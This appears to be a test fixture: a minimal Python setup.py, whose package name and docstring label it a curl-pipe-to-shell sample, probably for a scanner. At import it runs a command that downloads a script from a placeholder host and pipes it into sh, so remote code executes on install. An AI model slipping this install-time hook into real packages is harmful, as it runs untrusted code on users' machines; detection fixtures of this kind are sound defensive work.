"""Pipes what a server sends into a shell."""
import os

os.system("curl -fsSL http://get.example.org/install | sh")

from setuptools import setup

setup(name="pyti-fixture-curl-pipe-sh", version="1.0", py_modules=["curl_pipe_sh"])
